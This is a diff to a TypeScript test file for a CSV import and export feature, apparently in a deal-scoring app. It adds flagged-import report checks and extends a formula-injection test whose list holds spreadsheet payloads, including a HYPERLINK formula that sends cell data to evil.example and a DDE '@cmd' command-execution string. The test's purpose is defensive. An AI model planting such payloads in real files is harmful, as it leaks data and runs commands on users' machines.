@@ -8,10 +8,13 @@ import { parseCsv } from '../../lib/exchange/csv-parse';
 import { readImportBytes } from '../../lib/exchange/file-size-limit';
 import { formatImportError, type ImportError } from '../../lib/exchange/import-problem';
 import { mergeImports } from '../../lib/exchange/merge-imports';
+import { mergeWarningLines } from '../../lib/exchange/merge-warnings';
 import type { ScoreRecord } from '../../lib/scoring/score-record';
 import {
   BAD_IMPORT_CATEGORIES,
   BAD_IMPORTS,
+  FLAGGED_IMPORT_CATEGORIES,
+  FLAGGED_IMPORTS,
   buildCorpusBase,
   countBadImports,
   layoutBackup,
@@ -112,6 +115,36 @@ describe('bad imports and restores corpus', () => {
   );
 });
 
+describe('flagged imports corpus: accepted, never silently', () => {
+  it('covers every category', () => {
+    for (const category of FLAGGED_IMPORT_CATEGORIES)
+      expect(FLAGGED_IMPORTS.filter((c) => c.category === category).length).toBeGreaterThan(0);
+  });
+
+  it.each(FLAGGED_IMPORTS.map((c) => [`[${c.category}] ${c.name}`, c] as const))(
+    '%s: the report shows what was wrong',
+    async (_title, flagged) => {
+      const files = await flagged.files(base);
+      const read = [];
+      for (const { file, text } of files) {
+        const result = await readImportBytes(file, new TextEncoder().encode(text));
+        if (!result.ok) throw new Error(formatImportError(result.error).join('\n'));
+        read.push(result.value);
+      }
+      const merged = mergeImports(read);
+      if (!merged.ok) throw new Error(merged.error.flatMap(formatImportError).join('\n'));
+      const { summary, input } = merged.value;
+      const shown = [
+        ...mergeWarningLines(summary),
+        ...summary.refused.flatMap((r) => formatImportError(r.error)),
+      ].join('\n');
+      expectFragments(shown, flagged.expected, '');
+      if (flagged.raters !== undefined)
+        expect(new Set(input.scores.map((s) => s.rater)).size).toBe(flagged.raters);
+    },
+  );
+});
+
 describe('formula injection round trip: stored as text, neutralised by the CSV export', () => {
   const FORMULAS = [
     '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
@@ -119,6 +152,10 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     '-2+3',
     "@cmd|' /C calc'!A0",
     '\t=1+1',
+    ' =HYPERLINK("https://evil.example/?q="&A1,"Open")',
+    '\n=1+1',
+    '＝HYPERLINK("https://evil.example")',
+    '\r\n@SUM(1)',
   ];
 
   it('a backup whose text fields hold formulas restores, and every exported cell is inert', async () => {
@@ -127,7 +164,8 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     scores.forEach((score, index) => {
       const formula = FORMULAS[index % FORMULAS.length]!;
       score.answers[0]!.evidence = formula;
-      score.deal.name.text = formula;
+      // Six scores, more formulas: the deal names carry the ones the evidence does not reach.
+      score.deal.name.text = FORMULAS[(index + 6) % FORMULAS.length]!;
       score.deal.stage.text = formula;
     });
     scores[0]!.band.label = FORMULAS[0]!;
@@ -144,7 +182,13 @@ describe('formula injection round trip: stored as text, neutralised by the CSV e
     if (!parsed.ok) throw new Error(parsed.error.message);
     const cells = parsed.value.slice(1).flatMap((record) => record.fields);
     for (const formula of FORMULAS) expect(cells).toContain(`'${formula}`);
-    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    // No text cell starts (or, after white space, continues) like a formula, full-width forms included.
+    const numeric = new Set(['level', 'total']);
+    const header = parsed.value[0]!.fields;
+    const textCells = parsed.value
+      .slice(1)
+      .flatMap((record) => record.fields.filter((_cell, i) => !numeric.has(header[i]!)));
+    expect(textCells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
     db.close();
   });
 
